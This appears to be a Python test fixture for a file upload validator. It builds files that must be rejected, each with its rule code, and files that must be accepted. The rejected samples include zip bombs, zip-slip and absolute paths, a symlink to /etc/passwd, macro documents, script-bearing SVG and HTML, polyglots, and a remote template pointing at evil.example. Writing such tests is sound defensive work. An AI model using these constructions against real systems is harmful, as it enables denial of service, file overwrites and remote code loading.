"""Files that must not be taken, each with the rule that refuses it, and some that must."""

from __future__ import annotations

import struct
import zipfile
import zlib
from io import BytesIO

PDF = b"%PDF-1.7\n1 0 obj\n<< >>\nendobj\n%%EOF\n"
PNG = b"\x89PNG\r\n\x1a\n" + bytes(40) + b"IEND\xaeB`\x82"
TYPES = b'<?xml version="1.0"?><Types/>'
EICAR = rb"X5O!P%@AP[4\PZX54(P^)7CC)7}$" + b"EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"
SVG = b"<svg xmlns='http://www.w3.org/2000/svg'><script>alert(1)</script></svg>"
TEMPLATE = (
    b'<Relationships><Relationship Type="http://x/attachedTemplate" Target="%s" TargetMode="External"/></Relationships>'
)


def archive(parts: dict[str, bytes], *, compression: int = zipfile.ZIP_DEFLATED) -> bytes:
    buffer = BytesIO()
    with zipfile.ZipFile(buffer, "w", compression) as made:
        for name, content in parts.items():
            made.writestr(name, content)
    return buffer.getvalue()


def word(**parts: bytes) -> bytes:
    """A Word document; of a part's name `__` stands for a slash and `_dot_` for a dot."""
    named = {name.replace("__", "/").replace("_dot_", "."): content for name, content in parts.items()}
    return archive({"[Content_Types].xml": TYPES, "word/document.xml": b"<w:document/>", **named})


def sheet() -> bytes:
    return archive({"[Content_Types].xml": TYPES, "xl/workbook.xml": b"<workbook/>"})


def linked_outside() -> bytes:
    buffer = BytesIO()
    with zipfile.ZipFile(buffer, "w") as made:
        made.writestr("[Content_Types].xml", TYPES)
        made.writestr("word/document.xml", b"<w:document/>")
        link = zipfile.ZipInfo("word/media/image1.png")
        link.external_attr = 0o120777 << 16
        made.writestr(link, "/etc/passwd")
    return buffer.getvalue()


def encrypted() -> bytes:
    """The flag alone is what says so."""
    raw = bytearray(word())
    at = raw.index(b"PK\x01\x02")
    raw[at + 8] |= 1
    return bytes(raw)


def bomb(megabytes: int) -> bytes:
    return word(word__media__big_dot_xml=bytes(megabytes * 1024 * 1024))


def nested(depth: int) -> bytes:
    inner = word(word__media__big_dot_xml=bytes(1024 * 1024))
    for _ in range(depth):
        inner = word(word__embeddings__inner_dot_docx=inner)
    return inner


def overlapping() -> bytes:
    """Every row of the directory leads to one and the same part, so that it unpacks to many times what it holds."""
    content = zlib.compressobj(9, zlib.DEFLATED, -15)
    packed = content.compress(bytes(40 * 1024 * 1024)) + content.flush()
    local = struct.pack("<4s5H3L2H", b"PK\x03\x04", 20, 0, 8, 0, 0, 0, len(packed), 40 * 1024 * 1024, 19, 0)
    part = local + b"[Content_Types].xml" + packed
    rows = b"".join(_row(name, len(packed)) for name in [b"[Content_Types].xml", b"word/document.xml", *_names(300)])
    end = struct.pack("<4s4H2LH", b"PK\x05\x06", 0, 0, 302, 302, len(rows), len(part), 0)
    return part + rows + end


def _names(count: int) -> list[bytes]:
    return [b"word/media/%d.xml" % number for number in range(count)]


def _row(name: bytes, packed: int) -> bytes:
    fixed = struct.pack(
        "<4s6H3L5H2L", b"PK\x01\x02", 20, 20, 0, 8, 0, 0, 0, packed, 40 * 1024 * 1024, len(name), 0, 0, 0, 0, 0, 0
    )
    return fixed + name


def many_parts() -> bytes:
    """A directory that claims more rows than anybody may read."""
    return archive({f"word/{number}.xml": b"" for number in range(6000)})


def mac_text() -> bytes:
    return "Naïve text — with signs of every kind.\r\n".encode() * 20_000


REFUSED: dict[str, tuple[str, bytes]] = {
    "0 bytes": ("FILE-EMPTY", b""),
    "a program": ("FILE-TYPE", b"\x7fELF\x02\x01\x01" + bytes(64)),
    "a Windows program": ("FILE-TYPE", b"MZ\x90\x00" + bytes(64)),
    "an old Word document": ("FILE-TYPE", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(600)),
    "a picture of another type": ("FILE-TYPE", b"GIF89a" + bytes(64)),
    "text that is not UTF-8": ("FILE-TYPE", "naïve".encode("latin-1")),
    "text with a NUL at its end": ("FILE-TYPE", b"a" * 3_000_000 + b"\x00"),
    "SVG with script": ("FILE-MARKUP", SVG),
    "SVG behind white space": ("FILE-MARKUP", b" \n" * 700_000 + SVG),
    "HTML": ("FILE-MARKUP", b"<!DOCTYPE html><script>alert(1)</script>"),
    "an archive": ("FILE-ARCHIVE", archive({"a.txt": b"x"})),
    "an archive of another office": ("FILE-ARCHIVE", archive({"[Content_Types].xml": TYPES, "ppt/a.xml": b"x"})),
    "a Word document with macros": ("FILE-MACROS", word(word__vbaProject_dot_bin=b"x")),
    "macros under another name": ("FILE-MACROS", archive({
        "[Content_Types].xml": b"application/vnd.ms-word.document.macroEnabled.main+xml", "word/document.xml": b"x"})),
    "macros in a sheet within": ("FILE-MACROS", word(
        word__embeddings__a_dot_xlsx=archive({
            "[Content_Types].xml": TYPES, "xl/workbook.xml": b"x", "xl/vbaProject.bin": b"x"}))),
    "a template from elsewhere": ("FILE-REMOTE", word(
        word___rels__settings_dot_xml_dot_rels=TEMPLATE % b"https://evil.example/a.dotm")),
    "a bomb": ("FILE-BOMB", bomb(1100)),
    "archives in archives": ("FILE-BOMB", nested(4)),
    "overlapping parts": ("FILE-BOMB", overlapping()),
    "six thousand parts": ("FILE-BOMB", many_parts()),
    "zip slip": ("FILE-PATHS", archive({
        "[Content_Types].xml": TYPES, "word/document.xml": b"x", "../../etc/cron.d/x": b"x"})),
    "zip slip with backslashes": ("FILE-PATHS", archive({
        "[Content_Types].xml": TYPES, "word/document.xml": b"x", "word\\..\\..\\x": b"x"})),
    "an absolute path": ("FILE-PATHS", archive({
        "[Content_Types].xml": TYPES, "word/document.xml": b"x", "/etc/passwd": b"x"})),
    "a link out of it": ("FILE-PATHS", linked_outside()),
    "one with a password": ("FILE-ENCRYPTED", encrypted()),
    "another way of packing": ("FILE-BROKEN", archive(
        {"[Content_Types].xml": TYPES, "word/document.xml": b"x"}, compression=zipfile.ZIP_BZIP2)),
    "a Word document cut off": ("FILE-BROKEN", word()[:-30]),
    "something behind a Word document": ("FILE-BROKEN", word() + b"MZ"),
    "something before a Word document": ("FILE-TYPE", b"\x7fELF" + bytes(60) + word()),
    "a PDF cut off": ("FILE-BROKEN", PDF[:-8]),
    "a PDF that is an archive too": ("FILE-POLYGLOT", PDF + archive({"a.txt": b"x"}) + b"\n%%EOF\n"),
    "a PDF that is HTML too": ("FILE-POLYGLOT", b"%PDF-1.7\n<script>alert(1)</script>\n%%EOF\n"),
    "a picture that is an archive too": ("FILE-POLYGLOT", PNG + archive({"a.class": b"x"}, compression=0) + PNG[-8:]),
}  # fmt: skip

TAKEN: dict[str, tuple[str, bytes]] = {
    "PDF": (".pdf", PDF),
    "PNG": (".png", PNG),
    "JPEG": (".jpg", b"\xff\xd8\xff\xe0" + bytes(40) + b"\xff\xd9"),
    "Word": (".docx", word()),
    "Word with a chart": (".docx", word(word__embeddings__a_dot_xlsx=sheet())),
    "Word with a template of its writer's": (
        ".docx",
        word(word___rels__settings_dot_xml_dot_rels=TEMPLATE % b"file:///C:/Templates/House.dotm"),
    ),
    "Excel": (".xlsx", sheet()),
    "text": (".txt", mac_text()),
    "one byte": (".txt", b"x"),
    "text that begins as a program would": (".txt", b"MZ is the mark of a program.\n"),
    "a large and empty table": (".docx", bomb(9)),
}
